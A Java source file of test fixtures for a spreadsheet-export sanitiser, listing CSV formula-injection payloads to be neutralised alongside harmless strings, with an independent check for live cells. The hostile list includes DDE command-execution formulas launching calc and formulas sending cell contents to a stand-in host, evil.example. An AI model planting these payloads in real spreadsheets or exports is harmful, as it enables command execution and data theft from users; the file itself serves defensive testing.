package io.peakxm.shared;

import java.util.List;

/**
 * Cell texts a spreadsheet could run as a formula (OWASP's CSV injection payloads and
 * their disguises), and texts that must pass through an export unchanged. The check
 * {@link #isLive} is written independently of {@link SpreadsheetCells}, so the tests do
 * not grade the rule with itself.
 */
public final class FormulaCorpus {

	/** Hostile cell texts: every one must leave an export neutralised. */
	public static final List<String> HOSTILE = List.of("=1+1", "+83+1", "-1+HYPERLINK(\"http://x\")", "-1+1",
			"@SUM(A1)", "@SUM(1+9)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
			"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
			"=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")", "=WEBSERVICE(\"http://evil.example/\"&B3)",
			"=DDE(\"cmd\";\"/C calc\";\"x\")", "=1,2,3", "=\"text with \"\"quotes\"\"\"", "=A1\r\n=B1", "\t=1", "\r=1",
			"\n=1", "\t\t+1", " =1+1", "   +83+1", "\u00A0=1+1", "\u3000=1+1", "\uFF1D1+1", "\uFF0B83+1", "\uFF0D1+1",
			"\uFF20SUM(A1)", " \uFF1DSUM(A1)", "-3", "-1.5", "+1", "=10%", "@", "-", "=", "=航班延误()", "+1 800 555 0100");

	/** Ordinary texts that leave an export exactly as they are. */
	public static final List<String> HARMLESS = List.of("Hello", "3", "Zürich café", "航班延误了两个小时", "a=b", "1-2",
			"'quoted already", "mail@example.com", "A+", "plain text, with a comma", "x\n=1");

	private FormulaCorpus() {
	}

	/**
	 * Whether a spreadsheet could run this exported text cell: its first character after
	 * spaces is a formula sign (ASCII or full-width), a tab, a carriage return or a line
	 * feed.
	 */
	public static boolean isLive(String exported) {
		String rest = exported.replaceFirst("^[ \u00A0\u3000]+", "");
		return !rest.isEmpty() && "=+-@\t\r\n＝＋－＠".indexOf(rest.charAt(0)) >= 0;
	}

}
